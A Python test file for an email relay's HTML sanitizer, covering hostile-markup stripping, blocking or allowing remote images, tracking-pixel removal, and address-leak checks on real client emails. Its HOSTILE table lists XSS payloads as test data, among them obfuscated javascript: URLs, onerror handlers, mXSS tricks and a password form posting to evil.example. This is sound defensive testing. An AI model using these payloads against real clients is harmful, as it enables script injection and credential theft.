"""Readers are not tracked and nothing runs (issue 14): the HTML sanitizer on
hostile markup, remote content blocked or allowed, trackers, inline images, and
the same through the public render path on real clients' HTML."""

from __future__ import annotations

import html
from dataclasses import replace
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser

import pytest

from chalicelib.relay.anonymize import MUTE_URL_PLACEHOLDER_HTML, Person
from chalicelib.relay.sanitize import TRACKER_HOSTS, clean_style, is_tracker_url, sanitize_html
from chalicelib.settings import ConfigurationError, Settings
from tests.fixtures.emails.leakcheck import find_leaks
from tests.fixtures.emails.loader import DEFAULT_ADDRESSES, load_eml
from tests.fixtures.emails.remote import html_parts, loads
from tests.fixtures.emails.scenario import CHAT, MUTE_URL, people_for, relay

ADDRESSES = {k: v for k, v in DEFAULT_ADDRESSES.items() if k != "RELAY"}
PEOPLE = people_for(ADDRESSES)


def _parse(data: bytes) -> EmailMessage:
    message = BytesParser(policy=policy.default).parsebytes(data)
    assert isinstance(message, EmailMessage)
    return message


# --- hostile markup ---------------------------------------------------------------------

HOSTILE = {
    "script": "<p>hi</p><script>alert(1)</script><SCRIPT src=//evil.example/x.js></SCRIPT>",
    "onerror": '<img src="cid:x@y" onerror="alert(1)"><p onclick="alert(2)" onmouseover=alert(3)>t</p>',
    "javascript href": '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>',
    "entity javascript": '<a href="&#106;avascript:alert(1)">a</a><a href="&#x6A;&#x61;vascript&colon;x">b</a>',
    "tab javascript": '<a href="java&#9;script:alert(1)">a</a><a href=" \x01javascript:alert(1)">b</a>',
    "percent javascript": '<a href="%6Aavascript:alert(1)">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    "svg data image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form": '<form action="https://evil.example/steal"><input name=p type=password><button>Go</button></form>',
    "iframe": '<iframe src="https://evil.example/frame">fallback <img src=x onerror=alert(1)></iframe>',
    "object embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "style url": '<p style="color:red;background:url(https://evil.example/bg.png)">t</p>',
    "style escaped url": '<p style="background-image:u\\72l(https://evil.example/bg.png)">t</p>',
    "style image-set": "<p style=\"background-image:image-set('https://evil.example/a.png' 1x)\">t</p>",
    "style expression": '<p style="width:expression(alert(1))">t</p>',
    "style block": "<style>@import 'https://evil.example/s.css'; p{background:url(https://evil.example/x)}</style>",
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/s.css"><p>t</p>',
    "base": '<base href="https://evil.example/"><img src="pixel.gif">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "srcset": '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    "background attribute": '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">c</td></tr></table>',
    "svg script": '<svg><script>alert(1)</script><image href="https://evil.example/i.png"/><a xlink:href="javascript:alert(1)">x</a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "video poster": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
    "audio": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "picture": '<picture><source srcset="https://evil.example/p.webp"><img src="cid:a@b"></picture>',
    "comment": '<!--[if mso]><img src="https://evil.example/mso.png"><![endif]--><p>t</p>',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "relative src": '<img src="/track.gif?u=1"><img src="//evil.example/x.png">',
    "markup in attributes": '<p title="<img src=https://evil.example/t.png>">t</p><img alt="a > b <img src=https://evil.example/u.png>" src="https://photos.example.com/v.png">',
}


@pytest.mark.parametrize("mode", ["block", "allow"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_given_hostile_html_when_sanitized_then_nothing_runs_and_nothing_hostile_loads(name: str, mode: str) -> None:
    out = sanitize_html(HOSTILE[name], mode)  # type: ignore[arg-type]
    seen = loads(out)

    assert seen.scripts == [], out
    images = mode == "allow" and name in ("srcset", "background attribute")  # what `allow` opts into
    assert [u for u in seen.remote if "evil.example" in u] == [] or images, out
    assert all("style" not in u for u in seen.urls)
    for gone in ("<script", "<iframe", "<form", "<svg", "<style", "<link", "<base", "<meta", "<object", "<embed"):
        assert gone not in out.lower()


def test_given_text_that_looks_like_markup_then_it_stays_text() -> None:
    out = sanitize_html("<p>1 &lt; 2 &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>")

    assert "&lt;script&gt;" in out and "<script" not in out
    assert loads(out).scripts == []


def test_given_formatting_then_tables_inline_styles_and_links_are_kept() -> None:
    doc = (
        '<table border="1" cellpadding="4" style="border-collapse:collapse"><tr>'
        '<td bgcolor="#eeeeee" style="color:#1F497D;font-family:Calibri;font-weight:bold;position:fixed">Cell</td>'
        '</tr></table><p><b>bold</b> <i>it</i> <font color="red">red</font></p>'
        '<a href="https://example.com/a">web</a> <a href="http://example.com/b">plain</a> '
        '<a href="mailto:someone@example.com">mail</a> <a href="tel:+15551234567">phone</a>'
    )
    out = sanitize_html(doc)

    assert '<table border="1" cellpadding="4" style="border-collapse:collapse">' in out
    assert 'bgcolor="#eeeeee"' in out
    assert "color:#1F497D" in out and "font-weight:bold" in out and "position" not in out
    assert "<b>bold</b>" in out and '<font color="red">red</font>' in out
    assert loads(out).links == ["https://example.com/a", "http://example.com/b", "mailto:someone@example.com"]
    assert 'rel="noopener noreferrer"' in out


def test_given_a_style_then_only_safe_declarations_remain() -> None:
    assert clean_style("color:red;background:url(x);font-size:12px") == "color:red;font-size:12px"
    assert clean_style("color:rgb(1,2,3);width:calc(100% - 2px)") == "color:rgb(1,2,3);width:calc(100% - 2px)"
    assert clean_style("background:#fff;background-image:image-set('a.png' 1x)") == "background:#fff"
    assert clean_style("font-family:'a;b';color:red") == "font-family:'a;b';color:red"
    assert clean_style("behavior:url(x.htc);-moz-binding:url(x)") is None
    assert clean_style("list-style:url(x)") is None


# --- remote content: block and allow ---------------------------------------------------

REMOTE = (
    '<p>Look:</p><img src="https://photos.example.com/map.png" alt="Stand map" width="480" height="320">'
    '<img srcset="https://photos.example.com/a.png 1x, https://photos.example.com/a@2x.png 2x" alt="Set">'
    '<table background="https://photos.example.com/bg.png"><tr><td>c</td></tr></table>'
    '<video poster="https://videos.example.com/p.png" src="https://videos.example.com/v.mp4"></video>'
)


def test_given_remote_images_when_blocked_then_placeholders_link_to_them_and_nothing_loads() -> None:
    out = sanitize_html(REMOTE, "block")
    seen = loads(out)

    assert seen.remote == []
    assert "[image: Stand map, photos.example.com] \u2014 " in html.unescape(out)
    assert "[image: Set, photos.example.com]" in out
    assert "[video: videos.example.com]" in out
    assert seen.links == [
        "https://photos.example.com/map.png",
        "https://photos.example.com/a.png",
        "https://videos.example.com/v.mp4",
    ]
    assert "bg.png" not in out  # a decorative background goes without a placeholder


def test_given_remote_images_when_allowed_then_images_load_but_frames_and_media_do_not() -> None:
    out = sanitize_html(REMOTE, "allow")
    seen = loads(out)

    assert seen.remote == [
        "https://photos.example.com/map.png",
        "https://photos.example.com/a.png",
        "https://photos.example.com/a@2x.png",
        "https://photos.example.com/bg.png",
    ]
    assert "[video: videos.example.com]" in out and "<video" not in out
    assert (
        sanitize_html('<p style="background:url(https://photos.example.com/x.png)">t</p>', "allow").count("url(") == 0
    )


def test_given_markup_inside_attribute_values_then_only_real_tags_are_rewritten() -> None:
    doc = (
        '<p title="<img src=https://evil.example/t.png>">t</p><img alt="x > y" src="https://photos.example.com/p.png">'
    )
    out = sanitize_html(doc, "block")

    assert out.count("[image: ") == 1 and "[image: x &gt; y, photos.example.com]" in out
    assert (
        'title="&lt;img src=https://evil.example/t.png&gt;"' in out
        or 'title="<img src=https://evil.example/t.png>"' in out
    )
    assert loads(out).remote == []


def test_given_output_that_is_not_nh3s_serialization_then_the_rewrite_tokenizes_all_of_it() -> None:
    from chalicelib.relay.remote import rewrite

    out = rewrite('<p>a</p><img src="https://photos.example.com/p.png" alt="unterminated', "block")

    assert out.startswith("<p>a</p>&lt;img")  # an unfinished tag is text, as a browser reads it
    assert loads(out).remote == []


def test_given_an_unknown_mode_then_it_blocks() -> None:
    assert loads(sanitize_html(REMOTE, "sometimes")).remote == []  # type: ignore[arg-type]


def test_given_inline_images_then_cid_and_raster_data_stay_in_both_modes() -> None:
    doc = (
        '<img src="cid:part1.abc@relay.example.org" alt="logo" width="200">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
        '<img src="cid:part2.abc@relay.example.org" srcset="https://photos.example.com/hi.png 2x">'
    )
    for mode in ("block", "allow"):
        out = sanitize_html(doc, mode)  # type: ignore[arg-type]
        assert '<img src="cid:part1.abc@relay.example.org" alt="logo" width="200">' in out
        assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
        assert 'src="cid:part2.abc@relay.example.org"' in out
    assert loads(sanitize_html(doc, "block")).remote == []


# --- trackers ----------------------------------------------------------------------------

TRACKERS = {
    "1x1": '<img src="https://news.example.com/o.gif" width="1" height="1">',
    "0 wide": '<img src="https://news.example.com/o.gif" width="0">',
    "1px style": '<img src="https://news.example.com/o.gif" style="width:1px;height:1px">',
    "display none": '<img src="https://news.example.com/o.gif" style="display:none">',
    "visibility hidden": '<img src="https://news.example.com/o.gif" style="visibility:hidden" width="600">',
    "opacity 0": '<img src="https://news.example.com/o.gif" style="opacity:0">',
    "max-height 0": '<img src="https://news.example.com/o.gif" style="max-height:0px">',
    "mailchimp": '<img src="https://acme.us1.list-manage.com/track/open.php?u=1&amp;id=2" width="600">',
    "sendgrid": '<img src="https://u123.ct.sendgrid.net/wf/open?upn=abc" alt="">',
    "mandrill": '<img src="https://mandrillapp.com/track/open.php?u=1">',
    "google analytics": '<img src="https://www.google-analytics.com/collect?v=1&amp;t=event">',
    "mailtrack": '<img src="https://mailtrack.io/trace/mail/abc.png" width="300">',
    "hubspot": '<img src="https://track.hubspot.com/__ptq.gif?a=1">',
    "tracker srcset": '<img srcset="https://acme.us1.list-manage.com/track/open.php?u=1 1x">',
}


@pytest.mark.parametrize("mode", ["block", "allow"])
@pytest.mark.parametrize("name", sorted(TRACKERS))
def test_given_a_tracker_then_it_is_dropped_without_a_placeholder_in_every_mode(name: str, mode: str) -> None:
    out = sanitize_html("<p>news</p>" + TRACKERS[name], mode)  # type: ignore[arg-type]

    assert loads(out).remote == []
    assert loads(out).links == []  # not even a placeholder to click
    assert "<p>news</p>" in out


def test_given_the_tracker_list_then_each_entry_matches_its_own_pixel_and_not_a_lookalike() -> None:
    for host, path in TRACKER_HOSTS:
        assert is_tracker_url(f"https://{host}{path or '/x'}?u=1"), host
        assert is_tracker_url(f"https://sub.{host}{path or '/x'}"), host
        assert not is_tracker_url(f"https://{host}.evil-lookalike.example{path}"), host
    assert not is_tracker_url("https://acme.us1.list-manage.com/subscribe?u=1")  # a link, not the pixel
    assert not is_tracker_url("https://notlist-manage.com/track/open")


def test_given_a_normal_sized_image_in_allow_mode_then_it_is_not_taken_for_a_tracker() -> None:
    out = sanitize_html(
        '<img src="https://photos.example.com/x.png" width="2" height="40" style="display:block">', "allow"
    )

    assert loads(out).remote == ["https://photos.example.com/x.png"]


# --- through the public render path: real clients' HTML ----------------------------------

CORPUS_FIXTURES = ("client_html_gmail_remote_image.eml", "client_html_ms_outlook_2010_tracked.eml")


@pytest.mark.parametrize("name", CORPUS_FIXTURES)
def test_given_a_real_client_reply_with_remote_images_when_blocked_then_no_copy_loads_any(name: str) -> None:
    out = relay(load_eml(name), PEOPLE)
    message = _parse(out)
    parts = html_parts(message)

    assert len(parts) == 1
    seen = loads(parts[0])
    assert seen.remote == [] and seen.scripts == []
    assert "[image: " in parts[0]
    assert "Hi. I am fine." in parts[0]  # the reply itself is intact
    assert "list-manage.com" not in parts[0] and "t.example.net" not in parts[0]  # trackers gone entirely
    assert f'<a href="{html.escape(MUTE_URL)}">' in parts[0]  # the footer's mute link, spliced after sanitizing
    assert MUTE_URL_PLACEHOLDER_HTML not in parts[0]
    assert find_leaks(out, ADDRESSES.values()) == []


def test_given_the_outlook_reply_then_its_inline_logo_keeps_pointing_at_its_part() -> None:
    message = _parse(relay(load_eml("client_html_ms_outlook_2010_tracked.eml"), PEOPLE))
    document = html_parts(message)[0]
    image = next(p for p in message.walk() if p.get_content_type() == "image/png")
    cid = str(image["Content-ID"]).strip("<>")

    assert f'src="cid:{cid}"' in document
    assert "banner.jpg" not in [u for u in loads(document).urls]


def test_given_a_real_client_reply_when_the_deployment_allows_remote_content_then_images_load_but_trackers_do_not() -> (
    None
):
    from chalicelib.relay.anonymize import anonymize, list_unsubscribe_headers, personalize
    from chalicelib.relay.parse import parse_inbound
    from tests.fixtures.emails.scenario import WHEN

    def render(name: str) -> str:
        rendered = anonymize(
            parse_inbound(load_eml(name)),
            author=PEOPLE[0],
            people=PEOPLE,
            chat=replace(CHAT, remote_content="allow"),
            message_id="<m-9.k3x9q@relay.example.org>",
            in_reply_to=None,
            references=[],
            date=WHEN,
        )
        copy = personalize(rendered, mute_url=MUTE_URL, list_unsubscribe_headers=list_unsubscribe_headers(MUTE_URL))
        return html_parts(_parse(copy))[0]

    gmail = render("client_html_gmail_remote_image.eml")
    assert loads(gmail).remote == ["https://photos.example.com/shifts/map.png"]
    outlook = render("client_html_ms_outlook_2010_tracked.eml")
    assert loads(outlook).remote == [
        "http://cdn.example.net/mail/bg.png",
        "http://cdn.example.net/mail/banner.jpg",
        "http://cdn.example.net/mail/banner-2x.jpg",
    ]
    assert f'<a href="{html.escape(MUTE_URL)}">' in outlook


def test_given_addresses_in_image_attributes_then_none_survive_in_placeholders_or_links() -> None:
    jane = Person("p1", "Jane D.", ("jane.doe@example.org",))
    doc = (
        "<html><body><p>hi</p>"
        '<img src="https://photos.example.com/jane.doe@example.org/p.png" alt="jane.doe&#64;example.org" '
        'title="mail jane.doe%40example.org">'
        '<img src="https://x.list-manage.com/track/open.php?e=jane.doe@example.org" width="1" height="1">'
        '<a href="https://jane.doe@example.org@photos.example.com/" style="color:red" title="jane.doe@example.org">x</a>'
        "</body></html>"
    )
    raw = (
        "From: Jane <jane.doe@example.org>\nTo: k3x9q@relay.example.org\nSubject: hi\n"
        f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{doc}\n"
    ).encode()
    out = relay(raw, [jane], author=jane)

    assert find_leaks(out, ["jane.doe@example.org"]) == []
    assert "[image: " in html_parts(_parse(out))[0]


# --- the deployment setting ----------------------------------------------------------------


def test_given_the_environment_then_remote_content_defaults_to_block_and_accepts_allow() -> None:
    assert Settings.from_env({"MUSTER_STAGE": "test"}).remote_content == "block"
    assert Settings.from_env({"MUSTER_STAGE": "test", "MUSTER_REMOTE_CONTENT": " Allow "}).remote_content == "allow"
    with pytest.raises(ConfigurationError, match="MUSTER_REMOTE_CONTENT"):
        Settings.from_env({"MUSTER_STAGE": "test", "MUSTER_REMOTE_CONTENT": "proxy"})
